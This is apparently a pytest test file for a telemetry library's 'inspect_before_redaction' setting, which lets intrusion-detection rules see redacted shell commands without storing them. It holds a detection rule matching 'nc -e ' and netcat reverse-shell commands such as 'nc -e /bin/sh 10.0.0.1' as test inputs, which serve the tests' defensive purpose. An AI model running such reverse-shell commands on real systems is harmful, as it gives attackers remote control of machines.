"""``inspect_before_redaction``: rules see a value the policy then does not store.

The value reaches the detect sink's rules and nothing else: not the file sink, not a
plain logging handler, not a spool or dead-letter file, not a log line, not the alert.
"""

from __future__ import annotations

import json
import logging
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest
from conftest import ALERT, KERNEL, LOOK_ALIKE, PII, REVERSE_SHELL, record_code
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from telemetry_core import EventLog
from telemetry_core.sinks import SinkEvent

SHELL = "https://example.org/schemas/shell-command"
SHELL_SCHEMA = {
    "$id": SHELL, "version": 1, "title": "Shell command", "type": "object",
    "description": "A command a user ran (test schema).",
    "properties": {
        "command": {"type": "string", "title": "Command", "description": "What ran.",
                    "pii": True},
        "user": {"type": "string", "title": "User", "description": "Who.", "pii": True},
    },
}
RULE = textwrap.dedent(f"""\
    title: Netcat with an executable
    id: 0d8f2a57-3c1e-4a8e-9a54-4a35a5c5f001
    status: test
    level: high
    logsource:
      product: jupyter
      service: {SHELL}
    detection:
      selection:
        command|contains: 'nc -e '
      condition: selection
    """)
#: The shell schema's command and user are redacted (nothing allowed), but inspected;
#: alerts may keep users, so any user in an alert would be the inspected one leaking.
POLICY = {SHELL: {"consent": "required", "inspect_before_redaction": True},
          ALERT: {"allowed_categories": [PII], "consent": "required"}}


def _log(tmp_path: Path, policy: dict[str, Any] = POLICY, handlers: Any = (),
         **detect: Any) -> EventLog:
    rules = tmp_path / "rules"
    rules.mkdir(exist_ok=True)
    (rules / "nc.yml").write_text(RULE)
    log = EventLog(allowed_schemas=policy, handlers=list(handlers), sinks=[
        {"type": "detect", "rules": [str(rules)], "pack": False,
         "spool_dir": str(tmp_path / "spool-detect"), **detect},
        {"type": "file", "path": str(tmp_path / "events") + "/",
         "spool_dir": str(tmp_path / "spool-file")}])
    log.register_schema(SHELL_SCHEMA)
    return log


def _stored(tmp_path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for f in sorted((tmp_path / "events").rglob("*.jsonl"))
            for line in f.read_text().splitlines()]


def _every_byte_written(tmp_path: Path) -> bytes:
    return b"\n".join(p.read_bytes() for p in tmp_path.rglob("*")
                      if p.is_file() and p.parent.name != "rules")


class _Lines(logging.Handler):
    def __init__(self) -> None:
        super().__init__()
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(secret=st.text(alphabet=st.characters(min_codepoint=48, max_codepoint=0x2FFF,
                                             blacklist_categories=("Cs",)),
                      min_size=6, max_size=40))
def test_an_inspected_value_raises_the_alert_and_is_stored_nowhere(
        tmp_path_factory: pytest.TempPathFactory, secret: str) -> None:
    tmp_path = tmp_path_factory.mktemp("inspect")
    plain = _Lines()  # a plain logging handler on the EventLog: it gets what is recorded
    everything = _Lines()  # every log line of the process while it runs
    root = logging.getLogger()
    root.addHandler(everything)
    old_level = root.level
    root.setLevel(logging.DEBUG)
    log = _log(tmp_path, handlers=[plain])
    try:
        outcome = log.record(SHELL, 1, {"command": f"nc -e /bin/sh {secret}",
                                        "user": f"u-{secret}"})
        harmless = log.record_event(SHELL, 1, {"command": f"echo {secret}",
                                               "user": f"u-{secret}"})
        assert log.flush(timeout=60) and log.flush(timeout=60)
        detect = next(h for h in log.sink_handlers if h.label.startswith("detect/"))
        stats = detect.stats()
    finally:
        log.close()
        root.removeHandler(everything)
        root.setLevel(old_level)
    stored = _stored(tmp_path)
    alerts = [e for e in stored if e["__schema__"] == ALERT]
    assert len(alerts) == 1 and stats["detect_alerts"] == 1
    assert alerts[0]["matched_event_ids"] == [outcome.event_id]  # type: ignore[union-attr]
    assert "user" not in alerts[0] or alerts[0]["user"] is None  # redacted where recorded
    shells = [e for e in stored if e["__schema__"] == SHELL]
    assert [e["command"] for e in shells] == [None, None] and harmless["command"] is None
    assert outcome.event["command"] is None  # type: ignore[union-attr]
    assert secret not in repr(outcome)
    assert secret.encode() not in _every_byte_written(tmp_path)
    assert plain.lines and not any(secret in line for line in plain.lines)
    assert not any(secret in line for line in everything.lines)


def test_without_the_setting_a_redacted_value_never_matches(tmp_path: Path) -> None:
    log = _log(tmp_path, {**POLICY, SHELL: {"consent": "required"}})
    try:
        log.record_event(SHELL, 1, {"command": "nc -e /bin/sh 10.0.0.1", "user": "ana"})
        assert log.flush(timeout=60) and log.flush(timeout=60)
    finally:
        log.close()
    assert [e for e in _stored(tmp_path) if e["__schema__"] == ALERT] == []


def test_the_alert_carries_the_user_as_recorded(tmp_path: Path) -> None:
    # The policy keeps users of this schema (allowed by name), redacts commands.
    policy = {**POLICY, SHELL: {**POLICY[SHELL], "allowed_properties": ["user"]}}
    log = _log(tmp_path, policy)
    try:
        log.record_event(SHELL, 1, {"command": "nc -e /bin/sh 10.0.0.1", "user": "ana"})
        assert log.flush(timeout=60) and log.flush(timeout=60)
    finally:
        log.close()
    (alert,) = [e for e in _stored(tmp_path) if e["__schema__"] == ALERT]
    assert alert["user"] == "ana"


def test_the_shipped_pack_sees_redacted_kernel_code(tmp_path: Path) -> None:
    # The case the setting exists for: code is not stored, a reverse shell still alerts.
    policy = {KERNEL: {"consent": "required", "inspect_before_redaction": True},
              ALERT: {"consent": "required"}}
    log = EventLog(allowed_schemas=policy, sinks=[
        {"type": "detect", "spool_dir": str(tmp_path / "spool-detect")},
        {"type": "file", "path": str(tmp_path / "events") + "/",
         "spool_dir": str(tmp_path / "spool-file")}])
    try:
        record_code(log, [LOOK_ALIKE, REVERSE_SHELL])
        assert log.flush(timeout=60) and log.flush(timeout=60)
    finally:
        log.close()
    stored = _stored(tmp_path)
    alerts = [e for e in stored if e["__schema__"] == ALERT]
    assert [a["title"] for a in alerts] == ["Reverse shell through /dev/tcp"]
    assert [e["code"] for e in stored if e["__schema__"] == KERNEL] == [None, None]
    assert b"127.0.0.1/4444" not in _every_byte_written(tmp_path)  # the title says /dev/tcp


def test_a_spooled_event_is_evaluated_as_recorded_and_counted(tmp_path: Path) -> None:
    # The spool keeps only what is recorded: an event replayed from it lost its
    # inspected copy, so it cannot match on the redacted command, and that is counted.
    log = _log(tmp_path)
    try:
        detect = next(h for h in log.sink_handlers if h.label.startswith("detect/"))
        inspected = SinkEvent("e1", SHELL, "1", "2026-12-07T10:00:00Z",
                              b'{"__schema__":"%s","__event_id__":"e1","command":null}'
                              % SHELL.encode(),
                              b'{"__schema__":"%s","__event_id__":"e1","command":"nc -e x"}'
                              % SHELL.encode())
        replayed = SinkEvent("e2", SHELL, "1", "2026-12-07T10:00:01Z",
                             b'{"__schema__":"%s","__event_id__":"e2","command":null}'
                             % SHELL.encode())
        detect.sink.write_batch([inspected, replayed])
        stats = detect.stats()
    finally:
        log.close()
    assert stats["detect_matches"] == 1 and stats["detect_not_inspected"] == 1


def test_a_sink_event_never_shows_its_inspected_copy() -> None:
    event = SinkEvent("e1", SHELL, "1", "t", b"{}", b'{"command":"hunter2"}')
    assert "hunter2" not in repr(event) and "inspected=<not shown>" in repr(event)
    assert event.size == len(b"{}") + 1 + len(b'{"command":"hunter2"}')


def test_the_setting_warns_where_it_does_nothing(tmp_path: Path,
                                                  caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.WARNING)
    log = EventLog(allowed_schemas=POLICY, sinks=[
        {"type": "file", "path": str(tmp_path / "events") + "/",
         "spool_dir": str(tmp_path / "spool")}])
    log.close()
    assert "no sink of this EventLog inspects events" in caplog.text
    caplog.clear()
    # Everything kept: nothing is redacted, so nothing is inspected before redaction.
    log = _log(tmp_path, {SHELL: {"allowed_categories": [PII], "consent": "required",
                                  "inspect_before_redaction": True}})
    try:
        log.record_event(SHELL, 1, {"command": "ls", "user": "ana"})
    finally:
        log.close()
    assert "'inspect_before_redaction'] has no effect" in caplog.text


def test_the_notice_says_so_in_plain_words(tmp_path: Path) -> None:
    config = tmp_path / "telemetry_config.py"
    config.write_text(f"c.EventLog.allowed_schemas = {{{KERNEL!r}: {{'consent': 'required', "
                      "'inspect_before_redaction': True}}\n")
    plain = tmp_path / "plain_config.py"
    plain.write_text(f"c.EventLog.allowed_schemas = {{{KERNEL!r}: {{'consent': 'required'}}}}\n")

    def notice(path: Path, fmt: str) -> str:
        return subprocess.run([sys.executable, "-m", "telemetry_core", "notice", "--config",
                               str(path), "--format", fmt], check=True, capture_output=True,
                              text=True).stdout

    text = notice(config, "text")
    assert "security rules (intrusion detection) look at them in memory" in " ".join(
        text.split())
    assert "never the values the rules looked at" in " ".join(text.split())
    assert "Security rules" in notice(config, "html")
    data = json.loads(notice(config, "json"))
    assert data["schemas"][0]["inspected_before_redaction"] is True
    plain_data = json.loads(notice(plain, "json"))
    assert "inspected_before_redaction" not in plain_data["schemas"][0]
    assert plain_data["notice_version"] != data["notice_version"]  # users are asked again
    assert "security rules" not in notice(plain, "text")
